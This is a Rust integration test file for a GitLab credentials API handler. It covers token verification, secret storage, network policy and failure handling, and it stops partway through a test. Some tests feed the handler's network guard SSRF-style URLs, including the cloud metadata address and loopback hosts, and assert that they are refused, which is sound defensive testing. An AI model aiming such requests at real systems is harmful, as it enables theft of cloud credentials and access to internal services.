//! The credentials API handler end to end: API Gateway v2 requests (built from `events/*.json`) into
//! `shared::entrypoints::credentials_api::handler`, with the real DynamoDB and Secrets Manager adapters against the moto server
//! and the real GitLab verification against the GitLab simulator.

use std::collections::BTreeMap;
use std::sync::atomic::{AtomicU32, Ordering};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use aws_sdk_dynamodb::types::AttributeValue;
use lambda_http::{Request, RequestExt};
use serde_json::{Value, json};
use shared::aws::commit_reader::DynamoCommitReader;
use shared::aws::credential_store::DynamoCredentialStore;
use shared::aws::secrets::SecretsManagerVault;
use shared::commits::CommitLog;
use shared::credentials::model::{CredentialRecord, DiscoverySummary, SyncTally};
use shared::credentials::{
    ConnectionId, CredentialId, CredentialStatusStore, CredentialStore, Credentials,
    GitLabVerifier, SecretVault, VaultError,
};
use shared::entrypoints::credentials_api::{CredentialsApi, handler};
use shared::gitlab::{HttpClients, NetworkPolicy, PrivateNetworks, RetryPolicy, Timeouts};
use shared::kernel::push_hook::HOOK_SECRET_SUFFIX;
use shared::kernel::store::StoreError;
use shared::secret::SecretString;
use testkit::aws_local::AwsStandIn;
use testkit::gitlab_sim::{
    Fault, Membership, Namespace, ProjectSpec, Simulator, TokenSpec, World, access, routes,
};
use testkit::loopback_alias::{LoopbackAlias, PRIVATE_TEST_ADDRESS};
use testkit::tls_front::TlsFront;

const GOOD: &str = "glpat-credapi-good-token-00001";
const ROTATED: &str = "glpat-credapi-rotated-token-002";
const PROJECTS_ONLY: &str = "glpat-credapi-projects-only-03";
const NOTHING: &str = "glpat-credapi-reaches-nothing-4";
const GUEST: &str = "glpat-credapi-guest-only-00005";
const NO_SCOPE: &str = "glpat-credapi-no-api-scope-006";
const EXPIRED: &str = "glpat-credapi-expired-token-07";
const REVOKED: &str = "glpat-credapi-revoked-token-08";
const UNKNOWN: &str = "glpat-credapi-unknown-token-09";
const REPORTER: &str = "glpat-credapi-reporter-only-010";
const ALL_TOKENS: &[&str] = &[
    REPORTER,
    GOOD,
    ROTATED,
    PROJECTS_ONLY,
    NOTHING,
    GUEST,
    NO_SCOPE,
    EXPIRED,
    REVOKED,
    UNKNOWN,
];
const CONN: &str = "acme-prod";

type Api =
    CredentialsApi<DynamoCredentialStore, SecretsManagerVault, GitLabVerifier, DynamoCommitReader>;

mod commits_list;

static NEXT_PREFIX: AtomicU32 = AtomicU32::new(0);

struct Env {
    aws: AwsStandIn,
    sim: Simulator,
    api: Api,
    prefix: String,
}

/// A GitLab with users in every situation verification distinguishes.
fn world() -> World {
    let mut world = World::new();
    let dev = world.add_user("developer");
    world.add_token(TokenSpec::new(GOOD, dev, &["read_api"]));
    world.add_token(TokenSpec::new(ROTATED, dev, &["api"]));
    world.add_token(TokenSpec::new(NO_SCOPE, dev, &["read_repository"]));
    let yesterday = time::OffsetDateTime::now_utc().date() - time::Duration::days(1);
    world.add_token(TokenSpec::new(EXPIRED, dev, &["read_api"]).with_expiry(yesterday));
    let revoked = world.add_token(TokenSpec::new(REVOKED, dev, &["read_api"]));
    world.token_mut(revoked).revoked = true;
    let group = world.add_group("acme", None);
    world.add_member(dev, Membership::Group(group), access::DEVELOPER);

    let solo = world.add_user("solo");
    world.add_token(TokenSpec::new(PROJECTS_ONLY, solo, &["read_api"]));
    let personal = world.add_project(ProjectSpec::new(
        Namespace::User(solo),
        "tool",
        None,
        "main",
    ));
    world.add_member(solo, Membership::Project(personal), access::MAINTAINER);

    let nobody = world.add_user("nobody");
    world.add_token(TokenSpec::new(NOTHING, nobody, &["read_api"]));
    let guest = world.add_user("guest");
    world.add_token(TokenSpec::new(GUEST, guest, &["read_api"]));
    world.add_member(guest, Membership::Group(group), access::GUEST);
    // A Reporter reads code: verification must accept it (Developer is what DX asks for, not what reading needs).
    let reporter = world.add_user("reporter");
    world.add_token(TokenSpec::new(REPORTER, reporter, &["read_api"]));
    world.add_member(reporter, Membership::Group(group), access::REPORTER);
    world
}

fn fast_verification() -> RetryPolicy {
    RetryPolicy {
        max_attempts: 3,
        base_delay: Duration::from_millis(5),
        max_delay: Duration::from_millis(50),
        max_rate_limit_waits: 2,
        max_rate_limit_wait: Duration::from_secs(5),
        ..RetryPolicy::default()
    }
}

fn verifier(policy: NetworkPolicy) -> GitLabVerifier {
    let http = HttpClients::new(
        policy,
        Timeouts {
            connect: Duration::from_secs(2),
            read: Duration::from_secs(5),
            total: Duration::from_secs(10),
        },
    )
    .expect("HTTP clients");
    GitLabVerifier::new(Arc::new(http), 1_000_000)
        .with_limits(fast_verification(), Duration::from_secs(15))
}

fn api_for(
    aws: &AwsStandIn,
    table: &str,
    prefix: &str,
    base_url: &str,
    policy: NetworkPolicy,
) -> Api {
    CredentialsApi {
        credentials: Credentials {
            store: DynamoCredentialStore::new(aws.dynamodb.clone(), table),
            vault: SecretsManagerVault::new(aws.secrets.clone()),
            verifier: verifier(policy),
            secret_name_prefix: prefix.to_owned(),
            default_base_url: base_url.to_owned(),
        },
        commits: commit_log(aws),
        allow_unauthenticated: false,
    }
}

/// `commits.list` on the stand-in's commits table.
fn commit_log(aws: &AwsStandIn) -> CommitLog<DynamoCommitReader> {
    CommitLog::new(DynamoCommitReader::new(
        aws.dynamodb.clone(),
        aws.table("CommitsTable"),
    ))
}

async fn env() -> Env {
    captured_logs();
    let aws = AwsStandIn::provision().await.expect("stand-in");
    let sim = Simulator::start(world()).await.expect("simulator");
    let prefix = format!(
        "it-credentials-{}-{}/",
        std::process::id(),
        NEXT_PREFIX.fetch_add(1, Ordering::Relaxed)
    );
    let api = api_for(
        &aws,
        aws.table("StateTable"),
        &prefix,
        &sim.base_url(),
        NetworkPolicy::AllowPrivate,
    );
    Env {
        aws,
        sim,
        api,
        prefix,
    }
}

/// A sample event from `events/`.
fn event(name: &str) -> Value {
    let path = format!(
        "{}/../events/apigw-credentials-{name}.json",
        env!("CARGO_MANIFEST_DIR")
    );
    serde_json::from_str(&std::fs::read_to_string(&path).expect(&path)).expect("event JSON")
}

fn into_request(event: &Value) -> Request {
    lambda_http::request::from_str(&event.to_string()).expect("API Gateway v2 event")
}

/// An API Gateway v2 request (the create sample, reshaped): `path` may carry a query string.
fn request(method: &str, path: &str, content_type: Option<&str>, body: Option<String>) -> Request {
    let mut e = event("create");
    let (raw_path, query) = path.split_once('?').unwrap_or((path, ""));
    e["rawPath"] = raw_path.into();
    e["rawQueryString"] = query.into();
    e["requestContext"]["http"]["method"] = method.into();
    e["requestContext"]["http"]["path"] = raw_path.into();
    e.as_object_mut().unwrap().remove("pathParameters");
    let headers = e["headers"].as_object_mut().unwrap();
    headers.remove("content-type");
    headers.remove("content-length");
    if let Some(content_type) = content_type {
        headers.insert("content-type".into(), content_type.into());
    }
    match body {
        Some(body) => e["body"] = body.into(),
        None => {
            e.as_object_mut().unwrap().remove("body");
        }
    }
    into_request(&e)
}

fn post(route: &str, body: &Value) -> Request {
    request(
        "POST",
        &format!("/connections/{CONN}/{route}"),
        Some("application/json"),
        Some(body.to_string()),
    )
}

fn get(route: &str) -> Request {
    request("GET", &format!("/connections/{CONN}/{route}"), None, None)
}

/// Status and JSON body of the handler's reply; every reply must be JSON with a boolean `ok`.
async fn send(api: &Api, req: Request) -> (u16, Value) {
    let reply = handler(api, req).await.expect("the handler never fails");
    let status = reply.status().as_u16();
    assert_eq!(
        reply.headers()["content-type"],
        "application/json",
        "status {status}"
    );
    let body: Value = serde_json::from_slice(reply.body().as_ref()).expect("JSON reply");
    assert_eq!(
        body["ok"].as_bool(),
        Some((200..300).contains(&status)),
        "{body}"
    );
    if status >= 400 {
        assert!(
            body["error"].is_string() && body["message"].is_string(),
            "{body}"
        );
    }
    (status, body)
}

fn create_body(env: &Env, token: &str) -> Value {
    json!({
        "label": "Production",
        "settings": {"base_url": env.sim.base_url()},
        "secrets": {"api_token": token},
    })
}

async fn create(env: &Env, token: &str) -> Value {
    let (status, body) = send(
        &env.api,
        post("credentials.create", &create_body(env, token)),
    )
    .await;
    assert_eq!(status, 201, "{body}");
    body["credential"].clone()
}

/// Every item of this test's state table, in a stable order and form.
async fn table_items(env: &Env) -> Vec<BTreeMap<String, AttributeValue>> {
    let mut items = Vec::new();
    let mut start = None;
    loop {
        let output = env
            .aws
            .dynamodb
            .scan()
            .table_name(env.aws.table("StateTable"))
            .set_exclusive_start_key(start)
            .send()
            .await
            .expect("scan");
        items.extend(
            output
                .items
                .unwrap_or_default()
                .into_iter()
                .map(|item| item.into_iter().collect::<BTreeMap<_, _>>()),
        );
        match output.last_evaluated_key {
            Some(key) if !key.is_empty() => start = Some(key),
            _ => break,
        }
    }
    items.sort_by_key(|item| format!("{item:?}"));
    items
}

/// This test's secrets: name -> (current value unless scheduled for deletion, scheduled for deletion).
async fn secrets(env: &Env) -> BTreeMap<String, (Option<String>, bool)> {
    let mut found = BTreeMap::new();
    let mut next = None;
    loop {
        let output = env
            .aws
            .secrets
            .list_secrets()
            .include_planned_deletion(true)
            .set_next_token(next)
            .send()
            .await
            .expect("list secrets");
        for entry in output.secret_list() {
            let name = entry.name().unwrap_or_default();
            if !name.starts_with(&env.prefix) {
                continue;
            }
            let scheduled = entry.deleted_date().is_some();
            let value = if scheduled {
                None
            } else {
                env.aws
                    .secrets
                    .get_secret_value()
                    .secret_id(name)
                    // By the stage: moto's default stays on the version first made current.
                    .version_stage("AWSCURRENT")
                    .send()
                    .await
                    .expect("secret value")
                    .secret_string
            };
            found.insert(name.to_owned(), (value, scheduled));
        }
        next = output.next_token;
        if next.is_none() {
            break;
        }
    }
    found
}

/// This test's token secrets: [`secrets`] without the connections' push hook secrets.
async fn token_secrets(env: &Env) -> BTreeMap<String, (Option<String>, bool)> {
    let mut found = secrets(env).await;
    found.retain(|name, _| !name.ends_with(&format!("/{HOOK_SECRET_SUFFIX}")));
    found
}

async fn stored(
    env: &Env,
) -> (
    Vec<BTreeMap<String, AttributeValue>>,
    BTreeMap<String, (Option<String>, bool)>,
) {
    (table_items(env).await, secrets(env).await)
}

// ---------------------------------------------------------------------------------------------------------------
// create

#[tokio::test]
async fn create_verifies_then_keeps_the_token_in_its_own_secret_and_metadata_in_the_table() {
    let env = env().await;
    let mut body = create_body(&env, GOOD);
    body["expiration_date"] = "2099-12-31".into();
    body["settings"]["requests_per_minute"] = 600.into();
    let (status, reply) = send(&env.api, post("credentials.create", &body)).await;
    assert_eq!(status, 201, "{reply}");
    let credential = &reply["credential"];
    let id = credential["id"].as_str().unwrap();
    assert!(id.starts_with("cred_"));
    assert_eq!(credential["type"], "gitlab");
    assert_eq!(credential["label"], "Production");
    assert_eq!(credential["status"], "active");
    assert_eq!(credential["settings"]["base_url"], env.sim.base_url());
    assert_eq!(credential["settings"]["requests_per_minute"], 600);
    assert_eq!(credential["expiration_date"], "2099-12-31");
    assert_eq!(credential["deleted_at"], Value::Null);
    assert_eq!(credential["last_sync"], Value::Null);
    assert!(credential["created_at"].as_str().unwrap().ends_with('Z'));
    assert_eq!(
        credential["token_fingerprint"],
        SecretString::new(GOOD).fingerprint()
    );

    // Bounded verification: the token, then one page of groups (found one, so no projects probe).
    assert_eq!(env.sim.request_count(routes::PERSONAL_ACCESS_TOKEN_SELF), 1);
    assert_eq!(env.sim.request_count(routes::GROUPS), 1);
    assert_eq!(env.sim.request_count(routes::PROJECTS), 0);

    let secret_name = format!("{}{CONN}/{id}", env.prefix);
    let secrets = token_secrets(&env).await;
    assert_eq!(
        secrets,
        BTreeMap::from([(secret_name.clone(), (Some(GOOD.to_owned()), false))])
    );
    let described = env
        .aws
        .secrets
        .describe_secret()
        .secret_id(&secret_name)
        .send()
        .await
        .unwrap();
    let tags: BTreeMap<_, _> = described
        .tags()
        .iter()
        .map(|t| (t.key().unwrap().to_owned(), t.value().unwrap().to_owned()))
        .collect();
    assert_eq!(tags["connection_id"], CONN);
    assert_eq!(tags["credential_id"], id);

    let items = table_items(&env).await;
    assert_eq!(items.len(), 2, "the connection and the credential");
    let record = items
        .iter()
        .find(|i| i["sk"] == AttributeValue::S(format!("CRED#{id}")))
        .expect("credential item");
    assert_eq!(record["pk"], AttributeValue::S(format!("CONN#{CONN}")));
    assert_eq!(record["secret_name"], AttributeValue::S(secret_name));
    assert!(!format!("{items:?}").contains(GOOD));
    assert!(
        items
            .iter()
            .any(|i| i["sk"] == AttributeValue::S("CONNECTION".into()))
    );
}

#[tokio::test]
async fn create_accepts_form_bodies_and_tokens_that_reach_only_projects() {
    let env = env().await;
    let form = format!(
        "label=Solo&settings%5Bbase_url%5D={}&secrets%5Bapi_token%5D={PROJECTS_ONLY}",
        url::form_urlencoded::byte_serialize(env.sim.base_url().as_bytes()).collect::<String>()
    );
    let req = request(
        "POST",
        &format!("/connections/{CONN}/credentials.create"),
        Some("application/x-www-form-urlencoded"),
        Some(form),
    );
    let (status, reply) = send(&env.api, req).await;
    assert_eq!(status, 201, "{reply}");
    assert_eq!(reply["credential"]["label"], "Solo");
    // No group: one page of member projects was asked for too, and no more.
    assert_eq!(env.sim.request_count(routes::GROUPS), 1);
    assert_eq!(env.sim.request_count(routes::PROJECTS), 1);
    assert_eq!(env.sim.total_requests(), 3);
}

#[tokio::test]
async fn create_uses_the_default_base_url_when_settings_name_none() {
    let env = env().await;
    let (status, reply) = send(
        &env.api,
        post(
            "credentials.create",
            &json!({"secrets": {"api_token": GOOD}}),
        ),
    )
    .await;
    assert_eq!(status, 201, "{reply}");
    assert_eq!(
        reply["credential"]["settings"]["base_url"],
        env.sim.base_url()
    );
    assert_eq!(reply["credential"]["label"], Value::Null);
}

#[tokio::test]
async fn a_token_that_fails_verification_stores_nothing() {
    let env = env().await;
    let cases = [
        (UNKNOWN, 401, "invalid_credentials"),
        (EXPIRED, 401, "invalid_credentials"),
        (REVOKED, 401, "invalid_credentials"),
        (NO_SCOPE, 403, "invalid_permissions"),
        (NOTHING, 422, "no_resources"),
        (GUEST, 422, "no_resources"),
    ];
    for (token, expected_status, code) in cases {
        let (status, reply) = send(
            &env.api,
            post("credentials.create", &create_body(&env, token)),
        )
        .await;
        assert_eq!(
            (status, reply["error"].as_str()),
            (expected_status, Some(code)),
            "{token}: {reply}"
        );
    }
    assert_eq!(stored(&env).await, (Vec::new(), BTreeMap::new()));
    // Bounded: at most the token, one page of groups and one page of projects per attempt.
    assert!(env.sim.total_requests() <= 3 * cases.len() as u64);
}

#[tokio::test]
async fn a_reporter_token_is_accepted_because_reporters_read_code() {
    let env = env().await;
    let credential = create(&env, REPORTER).await;
    assert_eq!(credential["status"], "active");
    assert_eq!(
        env.sim.request_count(routes::GROUPS),
        1,
        "one page of groups at min_access_level=20 found the group"
    );
}

#[tokio::test]
async fn include_and_exclude_patterns_are_checked_kept_and_cleared() {
    let env = env().await;
    for (settings, named) in [
        (json!({"include": ["acme/[platform"]}), "acme/[platform"),
        (json!({"exclude": ["ok/*", "acme/a**"]}), "acme/a**"),
        (json!({"include": ["/acme"]}), "/acme"),
        (json!({"include": "acme/**\nbad {"}), "bad {"),
        (json!({"exclude": [7]}), "exclude must be a list"),
        (json!({"include": {"a": 1}}), "include must be a list"),
    ] {
        let mut body = create_body(&env, GOOD);
        body["settings"]
            .as_object_mut()
            .unwrap()
            .extend(settings.as_object().unwrap().clone());
        let (status, reply) = send(&env.api, post("credentials.create", &body)).await;
        assert_eq!(
            (status, reply["error"].as_str()),
            (400, Some("invalid_settings")),
            "{settings}: {reply}"
        );
        assert!(
            reply["message"].as_str().unwrap().contains(named),
            "{reply}"
        );
    }
    assert_eq!(stored(&env).await, (Vec::new(), BTreeMap::new()));
    assert_eq!(
        env.sim.total_requests(),
        0,
        "refused before GitLab is asked"
    );

    let mut body = create_body(&env, GOOD);
    body["settings"]["include"] = json!(["acme/**", "partners/sdk"]);
    body["settings"]["exclude"] = json!(["acme/*/sandbox"]);
    let (status, reply) = send(&env.api, post("credentials.create", &body)).await;
    assert_eq!(status, 201, "{reply}");
    let id = reply["credential"]["id"].as_str().unwrap().to_owned();
    assert_eq!(
        reply["credential"]["settings"]["include"],
        json!(["acme/**", "partners/sdk"])
    );
    assert_eq!(
        reply["credential"]["settings"]["exclude"],
        json!(["acme/*/sandbox"])
    );
    // Omitted: kept; a bad one on update: refused, nothing changes; null: cleared.
    let (_, kept) = send(
        &env.api,
        post("credentials.update", &json!({"id": id, "label": "x"})),
    )
    .await;
    assert_eq!(
        kept["credential"]["settings"]["include"],
        json!(["acme/**", "partners/sdk"])
    );
    let (status, reply) = send(
        &env.api,
        post(
            "credentials.update",
            &json!({"id": id, "settings": {"exclude": ["{a,"]}}),
        ),
    )
    .await;
    assert_eq!(
        (status, reply["error"].as_str()),
        (400, Some("invalid_settings"))
    );
    let (_, info) = send(&env.api, get(&format!("credentials.info/{id}"))).await;
    assert_eq!(
        info["credential"]["settings"]["exclude"],
        json!(["acme/*/sandbox"])
    );
    let (_, cleared) = send(
        &env.api,
        post(
            "credentials.update",
            &json!({"id": id, "settings": {"include": null, "exclude": []}}),
        ),
    )
    .await;
    assert_eq!(cleared["credential"]["settings"]["include"], json!([]));
    assert_eq!(cleared["credential"]["settings"]["exclude"], json!([]));
}

#[tokio::test]
async fn a_connection_is_one_gitlab_instance() {
    // A second GitLab with the same project ids: its projects would share this connection's keys.
    let env = env().await;
    let other = Simulator::start(world()).await.unwrap();
    let first = create(&env, GOOD).await;
    let mut body = create_body(&env, GOOD);
    body["settings"]["base_url"] = json!(other.base_url());
    let (status, reply) = send(&env.api, post("credentials.create", &body)).await;
    assert_eq!(
        (status, reply["error"].as_str()),
        (409, Some("instance_mismatch")),
        "{reply}"
    );
    assert!(
        reply["message"]
            .as_str()
            .unwrap()
            .contains(&env.sim.base_url()),
        "names the connection's instance: {reply}"
    );
    let id = first["id"].as_str().unwrap();
    let (status, reply) = send(
        &env.api,
        post(
            "credentials.update",
            &json!({"id": id, "settings": {"base_url": other.base_url()}}),
        ),
    )
    .await;
    assert_eq!(
        (status, reply["error"].as_str()),
        (409, Some("instance_mismatch"))
    );
    let (_, info) = send(&env.api, get(&format!("credentials.info/{id}"))).await;
    assert_eq!(
        info["credential"]["settings"]["base_url"],
        env.sim.base_url()
    );
    // Only the first credential and its secret exist; the same instance in another form is the same instance.
    let (_, list) = send(&env.api, get("credentials.list")).await;
    assert_eq!(list["credentials"].as_array().unwrap().len(), 1);
    assert_eq!(token_secrets(&env).await.len(), 1);
    let mut same = create_body(&env, GOOD);
    same["settings"]["base_url"] = json!(format!("{}api/v4", env.sim.base_url()));
    let (status, reply) = send(&env.api, post("credentials.create", &same)).await;
    assert_eq!(status, 201, "{reply}");
    // Another connection may use the other instance.
    let elsewhere = request(
        "POST",
        "/connections/acme-other/credentials.create",
        Some("application/json"),
        Some(body.to_string()),
    );
    let (status, reply) = send(&env.api, elsewhere).await;
    assert_eq!(status, 201, "{reply}");
    other.shutdown().await;
}

#[tokio::test]
async fn a_gitlab_on_a_private_network_the_operator_allows_can_be_connected() {
    let env = env().await;
    let alias = LoopbackAlias::hold(PRIVATE_TEST_ADDRESS).unwrap();
    let private = TlsFront::start_on(PRIVATE_TEST_ADDRESS.into(), env.sim.addr(), None)
        .await
        .unwrap();
    let mut body = create_body(&env, GOOD);
    body["settings"]["base_url"] = private.base_url.as_str().into();
    body["settings"]["ca_bundle"] = private.ca_pem.as_str().into();
    let deployed = |list: &str| {
        let policy = match PrivateNetworks::parse(list).unwrap() {
            Some(networks) => NetworkPolicy::PublicAnd(networks),
            None => NetworkPolicy::PublicOnly,
        };
        api_for(
            &env.aws,
            env.aws.table("StateTable"),
            &env.prefix,
            "https://gitlab.com/",
            policy,
        )
    };

    for list in ["", "10.20.0.0/16"] {
        let (status, reply) = send(&deployed(list), post("credentials.create", &body)).await;
        assert_eq!(
            (status, reply["error"].as_str()),
            (400, Some("invalid_settings")),
            "{list:?}: {reply}"
        );
        let message = reply["message"].as_str().unwrap_or_default();
        assert!(message.contains("GitLabPrivateNetworks"), "{message}");
    }
    assert_eq!(
        env.sim.total_requests(),
        0,
        "a refused address is never asked"
    );

    let (status, reply) = send(
        &deployed("10.20.0.0/16, 198.18.0.0/15"),
        post("credentials.create", &body),
    )
    .await;
    assert_eq!(status, 201, "{reply}");
    assert_eq!(reply["credential"]["status"], "active", "{reply}");

    // The metadata address stays refused, with its own reason, whatever the list covers.
    body["settings"]["base_url"] = "https://169.254.169.254/".into();
    let (status, reply) = send(&deployed("0.0.0.0/0"), post("credentials.create", &body)).await;
    assert_eq!(
        (status, reply["error"].as_str()),
        (400, Some("invalid_settings"))
    );
    let message = reply["message"].as_str().unwrap_or_default();
    assert!(message.contains("never allowed"), "{message}");
    drop(alias);
    env.sim.shutdown().await;
}

#[tokio::test]
async fn settings_the_network_guard_refuses_are_invalid_settings() {
    let env = env().await;
    let public = api_for(
        &env.aws,
        env.aws.table("StateTable"),
        &env.prefix,
        "https://gitlab.com/",
        NetworkPolicy::PublicOnly,
    );
    for base_url in [
        "https://127.0.0.1/",
        "https://169.254.169.254/latest/",
        "https://[::1]:8443/",
        "https://localhost/",
        "http://gitlab.example.com/",
        "ftp://gitlab.example.com/",
        "https://user:pass@gitlab.example.com/",
        "https://gitlab.example.com/?x=1",
        "not a url",
        &env.sim.base_url(),
    ] {
        let mut body = create_body(&env, GOOD);
        body["settings"]["base_url"] = base_url.into();
        let (status, reply) = send(&public, post("credentials.create", &body)).await;
        assert_eq!(
            (status, reply["error"].as_str()),
            (400, Some("invalid_settings")),
            "{base_url}: {reply}"
        );
    }
    // A CA bundle that is not a certificate.
    let mut body = create_body(&env, GOOD);
    body["settings"]["ca_bundle"] =
        "-----BEGIN CERTIFICATE-----\nbm90IGEgY2VydA==\n-----END CERTIFICATE-----\n".into();
    let (status, reply) = send(&env.api, post("credentials.create", &body)).await;
    assert_eq!(
        (status, reply["error"].as_str()),
        (400, Some("invalid_settings")),
        "{reply}"
    );
    // Something that is not a GitLab API answers 404 on personal_access_tokens/self.
    let mut body = create_body(&env, GOOD);
    body["settings"]["base_url"] = format!("{}not-gitlab/", env.sim.base_url()).into();
    let (status, reply) = send(&env.api, post("credentials.create", &body)).await;
    assert_eq!(
        (status, reply["error"].as_str()),
        (400, Some("invalid_settings")),
        "{reply}"
    );
    assert_eq!(env.sim.request_count(routes::GROUPS), 0);
    assert_eq!(stored(&env).await, (Vec::new(), BTreeMap::new()));
}

#[tokio::test]
async fn a_gitlab_that_is_down_answers_5xx_or_fails_tls_is_unreachable_not_bad_credentials() {
    let env = env().await;
    let closed = {
        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        listener.local_addr().unwrap().port()
    };
    let mut down = create_body(&env, GOOD);
    down["settings"]["base_url"] = format!("http://127.0.0.1:{closed}/").into();
    let (status, reply) = send(&env.api, post("credentials.create", &down)).await;
    assert_eq!(
        (status, reply["error"].as_str()),
        (502, Some("gitlab_unreachable")),
        "{reply}"
    );

    // A self-managed GitLab behind a private CA: refused without the bundle, verified with it.
    let addr = url::Url::parse(&env.sim.base_url())
        .unwrap()
        .socket_addrs(|| None)
        .unwrap()[0];
    let tls = TlsFront::start(addr).await.unwrap();
    let mut untrusted = create_body(&env, GOOD);
    untrusted["settings"]["base_url"] = tls.base_url.clone().into();
    let (status, reply) = send(&env.api, post("credentials.create", &untrusted)).await;
    assert_eq!(
        (status, reply["error"].as_str()),
        (502, Some("gitlab_unreachable")),
        "{reply}"
    );
    assert_eq!(stored(&env).await, (Vec::new(), BTreeMap::new()));

    untrusted["settings"]["ca_bundle"] = tls.ca_pem.clone().into();
    let (status, reply) = send(&env.api, post("credentials.create", &untrusted)).await;
    assert_eq!(status, 201, "{reply}");
    assert_eq!(
        reply["credential"]["settings"]["ca_bundle"]["certificates"],
        1
    );
    assert!(!reply.to_string().contains("BEGIN CERTIFICATE"));

    // A rate limit longer than a caller can wait is reported as GitLab being unavailable, at once.
    let before = stored(&env).await;
    env.sim.fail_next(
        routes::PERSONAL_ACCESS_TOKEN_SELF,
        1,
        Fault::RateLimited {
            retry_after_secs: 600,
        },
    );
    let started = std::time::Instant::now();
    let (status, reply) = send(
        &env.api,
        post("credentials.create", &create_body(&env, GOOD)),
    )
    .await;
    assert_eq!(
        (status, reply["error"].as_str()),
        (502, Some("gitlab_unreachable")),
        "{reply}"
    );
    assert!(started.elapsed() < Duration::from_secs(5));
    assert_eq!(stored(&env).await, before);

    // GitLab answering 5xx: a bounded number of attempts, then 502, and nothing more stored.
    let before = stored(&env).await;
    env.sim.reset_counts();
    env.sim.fail_next("*", 100, Fault::ServerError(503));
    let (status, reply) = send(
        &env.api,
        post("credentials.create", &create_body(&env, GOOD)),
    )
    .await;
    assert_eq!(
        (status, reply["error"].as_str()),
        (502, Some("gitlab_unreachable")),
        "{reply}"
    );
    assert_eq!(
        env.sim.request_count(routes::PERSONAL_ACCESS_TOKEN_SELF),
        3,
        "three attempts, then the verdict"
    );
    assert_eq!(stored(&env).await, before);
}

/// A store whose writes fail: no secret may stay without its record.
struct FailingWrites(DynamoCredentialStore);

impl CredentialStore for FailingWrites {
    async fn bind_connection(
        &self,
        c: &ConnectionId,
        base_url: &str,
        at: &str,
    ) -> Result<Option<String>, StoreError> {
        self.0.bind_connection(c, base_url, at).await
    }
    async fn connection_exists(&self, c: &ConnectionId) -> Result<bool, StoreError> {
        self.0.connection_exists(c).await
    }
    async fn insert(&self, _: &CredentialRecord) -> Result<(), StoreError> {
        Err(StoreError::Unavailable {
            operation: "PutItem credential",
            detail: "ProvisionedThroughputExceededException (injected)".into(),
        })
    }
    async fn replace(&self, _: &CredentialRecord, _: u64) -> Result<(), StoreError> {
        Err(StoreError::Unavailable {
            operation: "UpdateItem credential",
            detail: "ProvisionedThroughputExceededException (injected)".into(),
        })
    }
    async fn get(
        &self,
        c: &ConnectionId,
        id: &CredentialId,
    ) -> Result<Option<CredentialRecord>, StoreError> {
        self.0.get(c, id).await
    }
    async fn list(&self, c: &ConnectionId) -> Result<Vec<CredentialRecord>, StoreError> {
        self.0.list(c).await
    }
}

fn failing_api(
    env: &Env,
) -> CredentialsApi<FailingWrites, SecretsManagerVault, GitLabVerifier, DynamoCommitReader> {
    CredentialsApi {
        credentials: Credentials {
            store: FailingWrites(DynamoCredentialStore::new(
                env.aws.dynamodb.clone(),
                env.aws.table("StateTable"),
            )),
            vault: SecretsManagerVault::new(env.aws.secrets.clone()),
            verifier: verifier(NetworkPolicy::AllowPrivate),
            secret_name_prefix: env.prefix.clone(),
            default_base_url: env.sim.base_url(),
        },
        commits: commit_log(&env.aws),
        allow_unauthenticated: false,
    }
}

#[tokio::test]
async fn a_failed_table_write_leaves_no_secret_and_answers_503_without_internals() {
    let env = env().await;
    let failing = failing_api(&env);
    let reply = handler(
        &failing,
        post("credentials.create", &create_body(&env, GOOD)),
    )
    .await
    .unwrap();
    assert_eq!(reply.status().as_u16(), 503);
    let body: Value = serde_json::from_slice(reply.body().as_ref()).unwrap();
    assert_eq!(body["error"], "service_unavailable");
    assert!(!body.to_string().contains("Exception"), "{body}");
    assert!(secrets(&env).await.is_empty(), "the secret was deleted");
    assert!(
        table_items(&env)
            .await
            .iter()
            .all(|i| i["sk"] == AttributeValue::S("CONNECTION".into())),
        "no credential record"
    );

    // An update whose write fails leaves the old token in place.
    let id = create(&env, GOOD).await["id"].as_str().unwrap().to_owned();
    let before = stored(&env).await;
    let reply = handler(
        &failing,
        post(
            "credentials.update",
            &json!({"id": id, "secrets": {"api_token": ROTATED}}),
        ),
    )
    .await
    .unwrap();
    assert_eq!(reply.status().as_u16(), 503);
    assert_eq!(stored(&env).await, before);
}

#[tokio::test]
async fn our_own_aws_failures_are_503() {
    let env = env().await;
    let broken = api_for(
        &env.aws,
        "no-such-table",
        &env.prefix,
        &env.sim.base_url(),
        NetworkPolicy::AllowPrivate,
    );
    let (status, reply) = send(&broken, get("credentials.list")).await;
    assert_eq!(
        (status, reply["error"].as_str()),
        (503, Some("service_unavailable"))
    );
    assert!(!reply.to_string().contains("no-such-table"));
    let (status, _) = send(
        &broken,
        post("credentials.create", &create_body(&env, GOOD)),
    )
    .await;
    assert_eq!(status, 503);
    assert!(secrets(&env).await.is_empty());
}

// ---------------------------------------------------------------------------------------------------------------
// info and list

#[tokio::test]
async fn info_and_list_show_metadata_status_and_sync_summary_never_the_token() {
    let env = env().await;
    let first = create(&env, GOOD).await;
    let second = create(&env, PROJECTS_ONLY).await;
    let first_id = first["id"].as_str().unwrap();

    let (status, reply) = send(&env.api, get(&format!("credentials.info/{first_id}"))).await;
    assert_eq!(status, 200, "{reply}");
    assert_eq!(reply["credential"], first);
    for field in [
        "id",
        "type",
        "label",
        "settings",
        "created_at",
        "disabled_at",
        "deleted_at",
        "expiration_date",
        "status",
        "last_verified_at",
        "token_fingerprint",
        "last_sync",
    ] {
        assert!(reply["credential"].get(field).is_some(), "{field}");
    }

    let (status, reply) = send(&env.api, get("credentials.list")).await;
    assert_eq!(status, 200);
    let ids: Vec<_> = reply["credentials"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c["id"].clone())
        .collect();
    assert_eq!(ids.len(), 2);
    assert!(ids.contains(&first["id"]) && ids.contains(&second["id"]));
    assert!(!reply.to_string().contains(GOOD) && !reply.to_string().contains(PROJECTS_ONLY));

    // The scheduler and the worker fill the sync summary through the store's own writes; counts add up.
    let store = DynamoCredentialStore::new(env.aws.dynamodb.clone(), env.aws.table("StateTable"));
    let connection = ConnectionId::parse(CONN).unwrap();
    let credential = CredentialId::parse(first_id).unwrap();
    let found = DiscoverySummary::Found {
        statuses: [("active", 10), ("forbidden", 2)].into(),
        at: "2026-11-24T20:00:00Z".into(),
    };
    store
        .record_discovery(&connection, &credential, &found)
        .await
        .unwrap();
    for (commits, commits_skipped, error) in [(3_000, 0, None), (456, 2, Some("forbidden"))] {
